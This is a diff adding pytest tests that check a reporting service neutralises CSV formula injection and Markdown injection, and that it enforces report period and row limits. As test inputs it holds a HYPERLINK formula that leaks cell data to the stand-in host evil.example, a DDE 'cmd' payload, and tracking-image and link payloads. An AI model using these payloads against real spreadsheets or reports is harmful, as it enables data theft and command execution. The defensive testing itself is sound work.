@@ -5,20 +5,28 @@ from __future__ import annotations
 
 import csv
 import io
+import re
 import shutil
+import zipfile
+from collections.abc import Callable
 from datetime import UTC, datetime
 from pathlib import Path
 from typing import Any
+from urllib.parse import quote
 
+import httpx
 import pytest
+from markdown_it import MarkdownIt
 from sqlalchemy import Engine, select, update
 
 from conftest import Server, run_promise
+from engine.reading.period import DEFAULT_BOUNDS
 from engine.reading.queries import Queries
 from engine.reading.reports.build import Report, UnknownTeam, build_report
 from engine.reading.reports.render import render, trend_svg
 from engine.reading.reports.trend import WeekPoint, weekly_trend
 from engine.service import PromiseService
+from engine.spreadsheet import TRIGGERS, safe_cell
 from engine.storage.database import session_factory
 from engine.storage.schema import OutcomeRow
 from rules.loader import load_catalog
@@ -385,3 +393,130 @@ def test_reports_over_http(server: Server) -> None:
         own = care.get("/reports/customer-care", params={"format": "md"})
         assert own.status_code == 200 and own.headers["content-type"].startswith("text/markdown")
         assert "asked again by email by contact-centre" in own.text
+
+
+# --- spreadsheet-safe CSV -----------------------------------------------------------------------
+
+LEAK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
+CALC = "=cmd|' /C calc'!A0"
+
+
+def test_safe_cell_quotes_formulas_and_leaves_numbers() -> None:
+    cells = [LEAK, "+1+1", "-1+1", "@x", "\tx", "\rx", "-12", "-0.25", "+3", "1e-3", "a=1"]
+    assert [safe_cell(c) for c in cells] == [
+        "'" + LEAK, "'+1+1", "'-1+1", "'@x", "'\tx", "'\rx", "-12", "-0.25", "+3", "1e-3", "a=1",
+    ]  # fmt: skip
+    assert [safe_cell(v) for v in (-3, -0.5, None, True)] == [-3, -0.5, "", "True"]
+
+
+def test_csv_of_reports_and_exports_cannot_run_formulas(server: Server) -> None:
+    customer, case, agent = "@SUM(A1:A9)", CALC, LEAK  # no "/" in the customer: a path segment
+    records = [
+        email("f1", "2024-03-01 16:00", case, customer_id=customer),
+        reply("g1", "2024-03-04 16:40", case, customer_id=customer, agent=agent, team="-2+3"),
+    ]
+    with server.client() as client:
+        assert client.post("/interactions", json=records).json()["accepted"] == 2
+        server.wait_for(
+            lambda: (
+                len(client.get("/breaches", params={"customer_id": customer}).json()["items"]) == 1
+            )
+        )
+        period = {"from": "2024-02-26T00:00:00Z", "to": "2024-03-11T00:00:00Z", "format": "csv"}
+        report = client.get("/reports/contact-centre", params=period).text
+        archive = client.get(
+            f"/customers/{quote(customer)}/export", params={"format": "zip"}
+        ).content
+
+    [breach] = csv.DictReader(io.StringIO(report))
+    assert (breach["customer_id"], breach["scope"]) == ("'" + customer, "'" + case)
+    assert (breach["agent"], breach["acting_team"]) == ("'" + agent, "'-2+3")
+    files = zipfile.ZipFile(io.BytesIO(archive))
+    interactions = list(csv.DictReader(io.StringIO(files.read("interactions.csv").decode())))
+    assert [(r["customer_id"], r["case_id"]) for r in interactions] == [
+        ("'" + customer, "'" + case)
+    ] * 2
+    every_cell = [
+        cell
+        for name in files.namelist()
+        for row in csv.reader(io.StringIO(files.read(name).decode()))
+        for cell in row
+    ] + [cell for row in csv.reader(io.StringIO(report)) for cell in row]
+    assert not [cell for cell in every_cell if cell.startswith(TRIGGERS)]
+
+
+# --- markdown injection -------------------------------------------------------------------------
+
+IMAGE = "![t](http://evil.example/track.png)"
+LINK = "[click](http://evil.example/)"
+
+
+def test_markdown_shows_values_as_text_never_as_images_links_or_html(
+    service: PromiseService, catalog: Catalog
+) -> None:
+    service.ingest(
+        [
+            email("m1", "2024-03-01 16:00", IMAGE, attributes={"subject": IMAGE, "x": LINK}),
+            reply("m2", "2024-03-04 16:40", IMAGE, team=IMAGE, agent=f"{LINK} *a* `b`|c\n# h"),
+        ]
+    )
+    markdown = render(team_report(service, catalog, "contact-centre"), "md")
+    html = MarkdownIt("commonmark").enable("table").render(markdown)
+
+    assert "<img" not in html and "evil.example" not in "".join(re.findall(r"href=\S+", html))
+    assert "<em>" not in html and "<code>" not in html and "<h1>h" not in html
+    text = re.sub(r"<[^>]+>", "", html).replace("&quot;", '"')
+    assert text.count(IMAGE) >= 4  # scope, team (twice: evidence and drivers), attributes
+    assert f"{LINK} *a* `b`|c # h" in text
+
+
+# --- bounds: periods and rows -------------------------------------------------------------------
+
+
+def test_a_trend_shows_the_latest_weeks_of_the_bound_however_long_the_period(
+    evaluated: PromiseService,
+) -> None:
+    long_ago = datetime(2000, 1, 3, tzinfo=UTC)
+    weeks = weekly_trend(evaluated.sessions, promise="email-reply-1bd", since=long_ago)
+    assert len(weeks) == DEFAULT_BOUNDS.max_weeks and weeks[-1].week == "2024-W10"
+    few = weekly_trend(evaluated.sessions, promise="email-reply-1bd", until=UNTIL, max_weeks=2)
+    assert [(w.week, w.kept, w.broken) for w in few] == [("2024-W09", 2, 0), ("2024-W10", 1, 2)]
+
+
+def test_periods_are_bounded_and_reports_count_the_breaches_they_do_not_list(
+    server_with: Callable[..., Server],
+) -> None:
+    server = server_with(PROMISE_REPORT_MAX_ROWS="1")  # one breach listed per promise
+    ever = {"from": "0001-01-01T00:00:00Z", "to": "9999-12-31T00:00:00Z"}
+    limit = "the longest allowed is 400 days (PROMISE_MAX_PERIOD_DAYS)"
+    with server.client() as client:
+        assert client.post("/interactions", json=HISTORY).status_code == 200
+        server.wait_for(
+            lambda: (
+                len(client.get("/breaches", params={"team": "contact-centre"}).json()["items"]) == 2
+            )
+        )
+        for path in ("/compliance", "/reports/contact-centre"):
+            refused = client.get(path, params=ever)
+            assert refused.status_code == 400 and limit in refused.json()["detail"]
+        days_400 = {"from": "2024-01-01T00:00:00Z", "to": "2025-02-04T00:00:00Z"}
+        assert client.get("/compliance", params=days_400).status_code == 200
+
+        period = {"from": "2024-02-26T00:00:00Z", "to": "2024-03-11T00:00:00Z"}
+        markdown = client.get("/reports/contact-centre", params={**period, "format": "md"})
+        assert markdown.headers["x-breaches-not-shown"] == "1"
+        assert "### Breaches (2)" in markdown.text and K1 in markdown.text
+        assert "1 more not shown: the first 1 of the period are listed" in markdown.text
+        assert K5 not in markdown.text
+        assert "| email | 2 |" in markdown.text  # drivers count every breach
+        html = client.get("/reports/contact-centre", params=period).text
+        assert "1 more not shown" in html
+        answer = client.get("/reports/contact-centre", params={**period, "format": "csv"})
+        assert len(list(csv.DictReader(io.StringIO(answer.text)))) == 1
+        assert answer.headers["x-breaches-not-shown"] == "1"
+
+    with httpx.Client(base_url=server.url) as browser:
+        assert browser.post("/ui/login", data={"key": server.admin_key}).status_code == 303
+        page = browser.get("/ui", params={"from": "0001-01-01", "to": "9999-12-31"})
+        assert page.status_code == 400 and limit in page.text
+        assert browser.get("/ui", params={"to": "9999-12-31"}).status_code == 200
